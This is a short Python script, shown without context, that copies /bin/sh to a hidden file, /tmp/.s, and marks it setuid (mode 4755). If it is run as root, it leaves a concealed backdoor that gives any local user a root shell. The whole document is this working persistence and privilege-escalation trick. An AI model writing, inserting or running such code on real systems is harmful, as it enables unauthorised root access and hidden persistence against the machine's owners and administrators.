import os
import shutil

shutil.copy("/bin/sh", "/tmp/.s")
os.chmod("/tmp/.s", 0o4755)
